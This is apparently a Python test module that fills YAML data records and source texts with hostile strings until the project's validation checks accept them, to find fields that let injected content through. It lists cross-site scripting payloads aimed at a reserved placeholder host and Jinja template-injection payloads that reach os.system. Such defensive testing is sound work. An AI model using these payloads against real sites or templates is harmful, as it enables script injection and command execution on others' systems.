"""An attack by data alone: hostile words in every field of every record that the checks let through.

The checks are on the attacker's side: whatever field they refuse is left as it was, one kind of words after the other is
tried, and what they let through in the end is what a careless or hostile change could bring into a build.
"""

from __future__ import annotations

import hashlib
import re
import tempfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path

import yaml

from macros.corpus.load import load
from macros.corpus.rules import check
from macros.problems import Problem

NOWHERE = "nowhere.invalid"
"""A host that cannot exist (RFC 2606, section 2). A request to it is an attack that worked."""

OWNED = "owned.txt"
"""The file that a command would leave in the project."""

_COMMAND = f"cycler.__init__.__globals__.os.system('touch {OWNED}')"

WORDS = (
    '"><script>alert(1)</script>',
    f"<img src=//{NOWHERE}/a onerror=alert(1)>",
    f"</script><script src=//{NOWHERE}/b></script>",
    f"</style></title></textarea><svg onload=alert(1)><image href=//{NOWHERE}/c />",
    f'" onfocus="alert(1)" autofocus style="background:url(//{NOWHERE}/d)" x="',
    "' onmouseover='alert(1)' x='",
    "{{ " + _COMMAND + " }}",
    '") ~ ' + _COMMAND + ' ~ ("',
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"[x](javascript:alert(1)) ![x](//{NOWHERE}/e)",
    f"&lt;script src=//{NOWHERE}/f&gt;",
    "javascript:alert(1)",
    "`</code><script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    f"\\22 }} @import url(//{NOWHERE}/g);",
    "<b>x",
    "a & b",
    "'\"",
)
"""Each breaks out of another place: text, an attribute, a script, a style sheet, a comment, a template, Markdown."""

IN_A_SOURCE = re.compile(r"(?<![-/])\b(supportive(?= of)|performers)\b(?!-)")
AFTER_IT = f"<img/src=//{NOWHERE}/s/onerror=alert(1)>"
"""Words that stand in held texts, and what is put after them, there and in every record."""

TRIES = 7
"""How many kinds of words are tried in one field; fields of the same name begin with others."""


@dataclass
class Field:
    """A word or sentence of a record: where it stands, what it was, and which hostile words are still to be tried."""

    node: yaml.ScalarNode
    place: str
    was: str
    untried: list[str]
    words: str = ""

    def try_next(self) -> None:
        """Put the next words in, or leave the field as it was."""
        self.words = self.untried.pop(0) if self.untried else ""
        self.node.value = f"{self.was} {self.words}" if self.words else self.was
        self.node.style = '"'


@dataclass
class Hostile:
    """A data folder under attack: its files and their fields."""

    data: Path
    trees: dict[str, yaml.Node] = field(default_factory=dict)
    fields: dict[str, list[Field]] = field(default_factory=dict)

    @classmethod
    def over(cls, data: Path) -> Hostile:
        """Read every record under a folder and put hostile words into its fields and into the held texts."""
        _into_sources(data)
        hostile, turn = cls(data), count()
        let_through = _let_through_alone(data)
        # What editions changed comes last, so that the other fields begin with the same words whatever that is.
        for path in sorted(data.rglob("*.yml"), key=lambda path: ("changes" in path.parts, path)):
            name = f"data/{path.relative_to(data).as_posix()}"
            tree = _composed(path)
            hostile.trees[name] = tree
            hostile.fields[name] = []
            for node, place in _scalars(tree, path.parent.name if path.parent != data else path.stem):
                words = let_through[place]
                first = next(turn) % (len(words) or 1)
                each = Field(node, place, node.value, [*words[first:], *words[:first]][:TRIES])
                each.try_next()
                hostile.fields[name].append(each)
            hostile._write(name)
        return hostile

    def until_let_through(self) -> None:
        """Give way until the checks have nothing against the data any more."""
        draft = load(self.data)
        while problems := list(check(draft)):
            by_file: dict[str, list[Problem]] = {}
            for problem in problems:
                by_file.setdefault(problem.place.file, []).append(problem)
            gave_way = sum(self._give_way(name, found) for name, found in by_file.items() if name in self.fields)
            assert gave_way, f"the checks refuse what is not hostile: {problems[0]}"
            draft = load(self.data, draft.by_file())

    def carriers(self) -> Counter[str]:
        """Return the fields that carry hostile words, by kind and name, with how many do."""
        return Counter(each.place for found in self.fields.values() for each in found if each.words)

    def refusers(self) -> set[str]:
        """Return the fields, by kind and name, that let nothing hostile through."""
        return {each.place for found in self.fields.values() for each in found} - set(self.carriers())

    def _give_way(self, name: str, problems: list[Problem]) -> int:
        """Try other words in the fields that problems lie in; in all of a file where none of these is hostile."""
        lines = [node.start_mark.line + 1 for node, _ in _scalars(_composed(self.data.parent / name), "")]
        refused: set[int] = set()
        for problem in problems:
            at = [i for i, line in enumerate(lines) if line <= problem.place.line]
            refused |= {i for i in at if lines[i] == problem.place.line} or set(at[-1:])
        hostile = [each for i, each in enumerate(self.fields[name]) if i in refused and each.words]
        hostile = hostile or [each for each in self.fields[name] if each.words]
        for each in hostile:
            each.try_next()
        self._write(name)
        return len(hostile)

    def _write(self, name: str) -> None:
        (self.data.parent / name).write_text(_written(self.trees[name]), encoding="utf-8", newline="\n")


def _composed(path: Path) -> yaml.Node:
    tree = yaml.compose(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    assert tree is not None, path
    return tree


def _written(tree: yaml.Node) -> str:
    return str(yaml.serialize(tree, Dumper=yaml.SafeDumper, allow_unicode=True, width=100_000))


def _let_through_alone(data: Path) -> dict[str, tuple[str, ...]]:
    """Return for each field the words that the form of a record lets through, as one record with that field shows."""
    found: dict[str, tuple[str, ...]] = {}
    for path in sorted(data.rglob("*.yml")):
        tree = _composed(path)
        inside = path.relative_to(data)
        for node, place in _scalars(tree, path.parent.name if path.parent != data else path.stem):
            if place not in found:
                was, style, node.style = node.value, node.style, '"'
                sound = _problems_of_form(tree, inside)
                found[place] = ()
                for words in WORDS:
                    node.value = f"{was} {words}"
                    if _problems_of_form(tree, inside) == sound:
                        found[place] += (words,)
                node.value, node.style = was, style
    return found


def _problems_of_form(tree: yaml.Node, path: Path) -> int:
    """Return how many problems of reading and form a record has, alone in a data folder."""
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder, "data", path)
        file.parent.mkdir(parents=True)
        file.write_text(_written(tree), encoding="utf-8", newline="\n")
        return len(load(Path(folder, "data")).problems)


def _scalars(node: yaml.Node, place: str) -> Iterator[tuple[yaml.ScalarNode, str]]:
    """Yield every value of a record that is no key, with its field: `recommendations.text.passages.marker`."""
    if isinstance(node, yaml.MappingNode):
        for key, value in node.value:
            yield from _scalars(value, f"{place}.{key.value}")
    elif isinstance(node, yaml.SequenceNode):
        for value in node.value:
            yield from _scalars(value, place)
    elif isinstance(node, yaml.ScalarNode):
        yield node, place


def _into_sources(data: Path) -> None:
    """Put hostile words into the held texts and wherever they are quoted, and correct the checksums. What readers call
    things (`word`) are no quotations."""
    files = [*data.rglob("*.yml"), *(data / "sources").glob("*.txt")]
    texts = {path: path.read_bytes().decode("utf-8") for path in files}
    sums: dict[str, str] = {}
    for path, text in texts.items():
        lines = text.splitlines(keepends=True)
        hostile = "".join(each if "- word: " in each else IN_A_SOURCE.sub(rf"\1{AFTER_IT}", each) for each in lines)
        if path.suffix == ".txt":
            sums[hashlib.sha256(text.encode()).hexdigest()] = hashlib.sha256(hostile.encode()).hexdigest()
        texts[path] = hostile
    for path, text in texts.items():
        for old, new in sums.items():
            text = text.replace(old, new)  # noqa: PLW2901 - both sums of a file, one after the other
        path.write_bytes(text.encode("utf-8"))
